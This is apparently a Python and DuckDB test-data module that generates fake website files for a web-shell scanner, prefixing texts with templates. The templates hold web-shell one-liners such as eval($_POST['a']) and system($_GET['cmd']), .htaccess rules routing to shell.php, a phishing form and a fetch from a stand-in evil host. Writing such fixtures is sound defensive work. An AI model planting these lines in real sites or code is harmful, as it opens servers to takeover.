"""Deterministic views over the driver tables that give the scanner something to find, in both dialects.

Each document becomes a file: its number picks a template, which gives folder, name and a payload that is put
before the document's whole text (ASCII letters kept, so that characters are bytes). The payloads are inert text."""

from __future__ import annotations

import string

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from palisade.operators.findings import fenced

B64 = "QWxhZGRpbjpvcGVuIHNlc2FtZQ9x7Kf3Zp0LmNvT" * 7
HEX = "0123456789abcdef89ab4567cdef0123" * 10
#: (folder, file name with {id}, payload): fixed data of the overlay.
TEMPLATES = [
    ("/upload/", "doc_{id}.php", "<?php eval($_POST['a']);\n"),
    ("/bitrix/php_interface/", "init.php", "<?php assert('x'); eval (base64_decode('eA=='));\n"),
    ("/local/modules/m/", "doc_{id}.php", "<?php $f = create_function('$a', 'return $a;');\n"),
    ("/bitrix/tools/", "doc_{id}.php", "<?php system($_GET['cmd']); passthru('id');\n"),
    ("/bitrix/cache/", "doc_{id}.php", "<?php echo gzinflate(str_rot13('x')); pack('H*', '00');\n"),
    ("/tmp/", "doc_{id}.php", "<?php $_REQUEST['f']($_GET['a']);\n"),
    ("/vendor/", "doc_{id}.php", "<?php include($_GET['page']);\n"),
    ("/", "doc_{id}.php", "<?php file_put_contents('php://input', 'x'); readfile('php://filter/x');\n"),
    ("/upload/", "doc_{id}.html", "<iframe src='http://cdn.example.net/a'></iframe>\n"),
    ("/", "doc_{id}.html", "<form method='post' action='http://evil.example.org/login'>\n"),
    ("/local/templates/", "doc_{id}.js", "eval(String.fromCharCode(1)); unescape('%41'); atob('eA=='); setTimeout('x', 1);\n"),
    ("/local/templates/", "doc_{id}.tpl", "<object data='x'></object><script src=\"https://static.example.com/x.js\"></script>\n"),
    ("/bitrix/modules/a/", "doc_{id}.php", "<?php $USER->Authorize(1);\n"),
    ("/bitrix/modules/b/", "doc_{id}.php", "<?php include $_SERVER['DOCUMENT_ROOT'].'/upload/x.php';\n"),
    ("/catalog/", ".access.php", "<?php file_put_contents ('a', 'b');\n"),
    ("/local/php_interface/", "init.php", "<?php AddEventHandler('main', 'OnProlog', function() { system('x'); });\n"),
    ("/bitrix/admin/", "doc_{id}.php", "<?php move_uploaded_file($a, 'x.php');\n"),
    ("/", "doc_{id}.php", "<?php preg_replace('/x/e', 'y', 'z');\n"),
    ("/", "doc_{id}.php", f"<?php $p = base64_decode('{B64}');\n"),
    ("/", "doc_{id}.txt", f"{HEX}\n"),
    ("/upload/", ".htaccess", "RewriteCond %{HTTP_USER_AGENT} bot\nRewriteCond %{REQUEST_URI} ^/a\nRewriteRule ^(.*)$ /shell.php [L]\nRequire all granted\n"),
    ("/", ".htaccess", "AddHandler application/x-httpd-php .jpg\nphp_value auto_prepend_file /tmp/x.php\n# comment\nRewriteCond %{HTTP_HOST} x\nOptions -Indexes\nRewriteRule ^x$ /y [L]\n"),
    ("/blog/", ".htaccess", "SetHandler application/x-httpd-php\nRewriteRule ^wp-login\\.php$ - [F]\nRewriteCond %{REMOTE_ADDR} 1\n<FilesMatch x>\nRewriteRule ^a$ http://spam.example.net/ [R]\n"),
    ("/", "doc_{id}.inc", "<?php curl_setopt($c, CURLOPT_URL, 'http://pay.evil.example.org/p.txt');\n"),
    ("/", "doc_{id}.png", "\x7fELF"),
    ("/", "doc_{id}.css", "body { color: red }\n"),
    ("/", "doc_{id}.php", "<?php echo 'plain page';\n"),
    ("/.hidden/", "doc_{id}.php", "<?php $x = 1;\n"),
    ("/bitrix/cache-old/", "doc_{id}.phtml", "<?php $a = $_GET['q']; exec($a);\n"),
]
#: Code ends before the text, which would not parse as code.
TEMPLATES = [(d, n, p.rstrip("\n") + " ?>\n" if p.startswith("<?php") else p) for d, n, p in TEMPLATES]
N = len(TEMPLATES)
#: All but ASCII letters, blanks, line ends, dots and commas. Each is named: the JVM looks single characters up in a table, and tries ranges one after the other.
CLEAN = f"[^{string.ascii_letters} \\n.,]+"
DOMAINS = [("cdn.example.net", "low", ["cdn"]), ("example.org", "critical", ["phishing", "Bank"]), ("evil.example.org", "medium", ["drop"]), ("example.net", "high", ["spam"]), ("x.invalid", "high", [])]
AGENTS = ["CMain::Run();", "eval(base64_decode('eA=='));", "system($_GET['c']);", "file_put_contents('a', file_get_contents('http://a.example.org/x'));", "include($path);", "CAgent::Clean(\"https://static.example.com/ok\");", "assert($_POST['x']);"]
METHODS = [("CMain", "OnAfter"), ("", "eval"), ("CFoo", "call_user_func"), ("A\\\\Handler", "run"), ("$cls", "x"), ("Loader", "include($_GET['f'])")]
EVENTS = ["OnPageStart", "OnProlog", "OnCustom", "OnEpilog"]
MODULES = ["main", "iblock", "sale", "click", "view"]


def pick(items: list[str], index) -> F.Column:
    return F.element_at(F.array(*map(F.lit, items)), (index % len(items) + 1).cast("int"))


def site_files(spark: SparkSession, sf_dir: str, edit: str = "") -> DataFrame:
    """(doc_id, path, content) of documents; ``edit`` 'new' is the later state of the same site.

    A file's path and content are computed once: left as expressions, each of the scanner's reads would clean the whole text anew."""
    docs, place, content = site_parts(spark, sf_dir, edit)
    return fenced(docs, path=place, content=content).select("doc_id", "path", "content")


def site_paths(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(doc_id, path) of :func:`site_files`, without reading texts."""
    docs, place, _ = site_parts(spark, sf_dir)
    return fenced(docs.select("doc_id"), path=place)


def site_parts(spark: SparkSession, sf_dir: str, edit: str = "") -> tuple[DataFrame, F.Column, F.Column]:
    """The documents that are files, and the expressions of a file's path and content."""
    docs = spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", F.coalesce("text", F.lit("")).alias("text"))
    name = F.replace(pick([t[1] for t in TEMPLATES], F.col("doc_id")), F.lit("{id}"), F.col("doc_id").cast("string"))
    place = F.concat(F.lit("/site/s"), F.floor(F.col("doc_id") / N).cast("string"), pick([t[0] for t in TEMPLATES], F.col("doc_id")), name)
    content = F.concat(pick([t[2] for t in TEMPLATES], F.col("doc_id")), F.regexp_replace("text", CLEAN, ""))
    if edit == "old":
        docs = docs.where("doc_id % 7 <> 0")
    if edit == "new":
        docs = docs.where("doc_id % 11 <> 0")
        content = F.concat(content, F.when(F.col("doc_id") % 5 == 0, "changed").when(F.col("doc_id") % 5 == 1, " \n").otherwise(""))
    return docs, place, content


#: What stands before and after a page's URL in its file of one link.
LINKS = [('<a href="', '">x</a>'), ('<iframe src="', '"></iframe>'), ('<script src="', '"></script>'), ('<form method="post" action="', '">')]


def page_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(doc_id, path, content): every page's whole markup as a file."""
    p = spark.read.parquet(f"{sf_dir}/pages.parquet")
    return p.select(F.col("page_id").alias("doc_id"), F.concat(F.lit("/site/p_"), F.col("page_id").cast("string"), F.lit(".html")).alias("path"), F.coalesce("html", F.lit("")).alias("content"))


def link_files(spark: SparkSession, sf_dir: str) -> DataFrame:
    """(doc_id, path, content): every page's URL in a file of its own, in one of the forms of :data:`LINKS`."""
    p, i = spark.read.parquet(f"{sf_dir}/pages.parquet"), F.col("page_id")
    content = F.concat(pick([a for a, _ in LINKS], i), F.coalesce("url", F.lit("")), pick([b for _, b in LINKS], i))
    return p.select(i.alias("doc_id"), F.concat(F.lit("/site/l_"), i.cast("string"), F.lit(".html")).alias("path"), content.alias("content"))


def at_root(files: DataFrame) -> DataFrame:
    """Files whose names hold their number move from their site's folder to the root."""
    return files.withColumn("path", F.regexp_replace("path", "^/site/s[0-9]+(/.*doc_[0-9]+[.][a-z]+)$", "/site$1"))


def agents(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = spark.read.parquet(f"{sf_dir}/events.parquet")
    module = F.when(F.col("event_id") % 9 == 0, "").otherwise(F.col("event_type"))
    return e.select(F.col("event_id").alias("ID"), module.alias("MODULE_ID"), pick(AGENTS, F.col("event_id")).alias("NAME"), F.when(F.col("event_id") % 2 == 0, "Y").otherwise("N").alias("ACTIVE"), F.lit("").alias("NEXT_EXEC"))


def handlers(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = spark.read.parquet(f"{sf_dir}/events.parquet")
    i = F.col("event_id")
    to = F.when(i % 10 == 0, "").when(i % 10 == 1, "bad id").otherwise(F.col("event_type"))
    return e.select(i.alias("ID"), F.lit("main").alias("FROM_MODULE_ID"), pick(EVENTS, i).alias("MESSAGE_ID"), to.alias("TO_MODULE_ID"), pick([m[0] for m in METHODS], i).alias("TO_CLASS"), pick([m[1] for m in METHODS], i).alias("TO_METHOD"), F.lit("100").alias("SORT"))


def modules(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame([(m,) for m in MODULES], "module_id string")


def domains(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame([(i, *d) for i, d in enumerate(DOMAINS)], "ord int, domain string, severity string, tags array<string>")


def hash_items(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Known hashes: every thirteenth file of the site and all benchmark texts."""
    files = site_files(spark, sf_dir).where("doc_id % 13 = 0").select(F.sha2("content", 256).alias("hash"), F.lit("file").alias("name"))
    bench = spark.read.parquet(f"{sf_dir}/benchmark.parquet").select(F.sha2("text", 256).alias("hash"), F.lit("bench").alias("name"))
    return files.unionByName(bench).select("hash", "name", F.lit("overlay").alias("family"), F.lit("webshell").alias("category"), F.lit("info").alias("severity"))


# -- the same in DuckDB SQL


def lit(s: str) -> str:
    return "'" + s.replace("'", "''") + "'"


def sql_pick(items: list[str], index: str) -> str:
    return f"([{', '.join(map(lit, items))}])[({index}) % {len(items)} + 1]"


def sql_files(edit: str = "") -> str:
    content = f"{sql_pick([t[2] for t in TEMPLATES], 'doc_id')} || regexp_replace(coalesce(text, ''), '[^A-Za-z \\n.,]', '', 'g')"
    where = ""
    if edit == "old":
        where = " WHERE doc_id % 7 <> 0"
    if edit == "new":
        where = " WHERE doc_id % 11 <> 0"
        content = f"({content}) || CASE doc_id % 5 WHEN 0 THEN 'changed' WHEN 1 THEN ' ' || chr(10) ELSE '' END"
    place = f"'/site/s' || (doc_id // {N})::VARCHAR || {sql_pick([t[0] for t in TEMPLATES], 'doc_id')} || replace({sql_pick([t[1] for t in TEMPLATES], 'doc_id')}, '{{id}}', doc_id::VARCHAR)"
    return f"SELECT doc_id, {place} AS path, {content} AS content FROM documents{where}"


def sql_link(url: str) -> str:
    return f"{sql_pick([a for a, _ in LINKS], 'page_id')} || {url} || {sql_pick([b for _, b in LINKS], 'page_id')}"


def sql_at_root(files: str) -> str:
    return f"SELECT * REPLACE (regexp_replace(path, '^/site/s[0-9]+(/.*doc_[0-9]+[.][a-z]+)$', '/site\\1') AS path) FROM ({files})"


def sql_agents() -> str:
    return f"SELECT event_id AS id, CASE WHEN event_id % 9 = 0 THEN '' ELSE event_type END AS module_id, {sql_pick(AGENTS, 'event_id')} AS name, CASE WHEN event_id % 2 = 0 THEN 'Y' ELSE 'N' END AS active FROM events"


def sql_handlers() -> str:
    return f"SELECT event_id AS id, {sql_pick(EVENTS, 'event_id')} AS message_id, CASE event_id % 10 WHEN 0 THEN '' WHEN 1 THEN 'bad id' ELSE event_type END AS to_module_id, {sql_pick([m[0] for m in METHODS], 'event_id')} AS to_class, {sql_pick([m[1] for m in METHODS], 'event_id')} AS to_method FROM events"
